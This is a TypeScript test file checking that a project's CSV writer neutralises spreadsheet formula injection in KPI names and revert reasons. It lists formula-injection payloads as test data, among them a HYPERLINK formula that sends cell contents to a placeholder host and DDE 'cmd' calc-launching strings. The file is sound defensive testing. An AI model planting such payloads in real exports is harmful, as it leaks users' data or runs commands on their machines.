import fs from "fs";
import os from "os";
import path from "path";
import { expect } from "chai";
import { parse } from "csv-parse/sync";
import { csvLine, csvLines, isFormulaLike, readCsv, restoreCsvText, neutraliseCsvText } from "../../src/output/csv";
import { RunWriter } from "../../src/output/run-writer";
import { readKpisCsv as readKpiTable } from "../../src/output/formats/kpis-csv";
import { readRunData } from "../../src/report/data";

/** Text from contracts and users that a spreadsheet would run, or that sits next to what it would. */
const HOSTILE = [
  "=1+1",
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "+SUM(A1:A9)",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1,2)",
  "\t=1",
  "\r=1",
  "＝1+1", // full-width forms, which some spreadsheets normalise
  "＋1",
  "－1",
  "＠x",
  "'=1+1", // already quoted: must come back with its quote
  "''=1",
  "'-1",
  "'tis", // a quote before anything else is plain text
  "'",
  "-",
  "=",
  "a,b",
  'say "hi"',
  "line\nbreak",
  "",
  "-x",
  "ERC20InsufficientBalance(0xab, 0, 1)",
];

/** Numbers as the writers hand them over (KPI values, ticks, percentiles): never touched. */
const NUMBERS = ["-1.5", "-0", "-2e-7", "-1.5e+21", "-Infinity", "Infinity", "NaN", "-540647551691695229860", "0", "12"];

describe("CSV cells a spreadsheet opens (src/output/csv.ts)", () => {
  it("neutralises text a spreadsheet would take for a formula: a leading quote, and the cell quoted", () => {
    expect(csvLine(["=1+1", "+1", "@x", "-x", "\t=1", "＝1"])).to.equal(`"'=1+1","'+1","'@x","'-x","'\t=1","'＝1"\n`);
    expect(csvLine(["'=1", "'tis", "plain", ""])).to.equal(`"''=1",'tis,plain,\n`);
    for (const text of HOSTILE) {
      // eslint-disable-next-line @typescript-eslint/no-unnecessary-type-assertion -- without options csv-parse's typings pick the overload that returns unknown[]
      const [cell] = parse(csvLine([text])) as string[][];
      const formula = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell[0]);
      expect(formula, JSON.stringify(text)).to.equal(false);
    }
  });

  it("leaves numbers as they are, typed or as text, and writes nothing else about them", () => {
    expect(csvLine([-1.5, -2e-7, -Infinity, NaN, -5n, 0, true, null, undefined])).to.equal("-1.5,-2e-7,-Infinity,NaN,-5,0,true,,\n");
    expect(csvLine(NUMBERS)).to.equal(NUMBERS.join(",") + "\n");
    for (const n of NUMBERS) expect(isFormulaLike(n), n).to.equal(false);
  });

  it("reads back exactly the text written, for hostile strings, numbers, and every run of quotes before a formula character", () => {
    const generated: string[] = [];
    for (const quotes of ["", "'", "''", "'''"]) for (const c of ["=", "+", "-", "@", "\t", "\r", "＝", "a", "1", ""]) for (const tail of ["", "1", "x,y", '"q"']) generated.push(quotes + c + tail);
    const texts = [...HOSTILE, ...NUMBERS, ...generated];
    for (const t of texts) expect(restoreCsvText(neutraliseCsvText(t)), JSON.stringify(t)).to.equal(t);
    const rows = texts.map((t, i) => [String(i), t]);
    expect(readCsv(csvLines(rows))).to.deep.equal(rows);
    const records = readCsv(csvLines([["=name", "-x"], ...rows]), { columns: true });
    expect(records.map((r) => r["-x"])).to.deep.equal(texts);
    expect(Object.keys(records[0])).to.deep.equal(["=name", "-x"]);
  });

  it("a run's kpis.csv and reverts.csv: KPI names and revert reasons neutralised in the file, read back as they were by every reader", () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), "tokenspice-csv-"));
    try {
      const kpiNames = ["=cmd|' /C calc'!A0", "-loss", "@supply", "price"];
      const w = RunWriter.open(dir, { force: false, kpiNames, manifest: { netlist: { name: "x" }, seed: 1, steps: 1, time: { stepSeconds: 60, start: 0 } } });
      w.onSample({ tick: 0, time: 0, values: { [kpiNames[0]]: -1.5, [kpiNames[1]]: -3n, [kpiNames[2]]: -Infinity, price: 2 } });
      const reason = '=HYPERLINK("http://evil.example","x")';
      w.onRevert({ tick: 0, agent: "+agent", from: "0x1", to: null, call: "@Token.transfer", reason, data: "0x", txHash: null, gasUsed: 21000n });
      const kpis = fs.readFileSync(path.join(dir, "kpis.csv"), "utf8");
      expect(kpis).to.equal(`tick,timestamp,"'=cmd|' /C calc'!A0","'-loss","'@supply",price\n0,0,-1.5,-3,-Infinity,2\n`);
      expect(fs.readFileSync(path.join(dir, "reverts.csv"), "utf8").split("\n")[1]).to.equal(`0,"'+agent",0x1,,"'@Token.transfer","'=HYPERLINK(""http://evil.example"",""x"")",0x,,21000`);
      expect(readKpiTable(dir)).to.deep.equal({ kpis: kpiNames, rows: [["0", "0", "-1.5", "-3", "-Infinity", "2"]] });
      const data = readRunData(dir);
      expect(data.kpis.map((k) => k.name)).to.deep.equal(kpiNames);
      expect(data.samples.values[kpiNames[1]]).to.deep.equal([-3]);
      expect(data.reverts).to.deep.equal([{ tick: 0, agent: "+agent", call: "@Token.transfer", reason, gasUsed: 21000n }]);
      w.complete({}, {});
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });
});
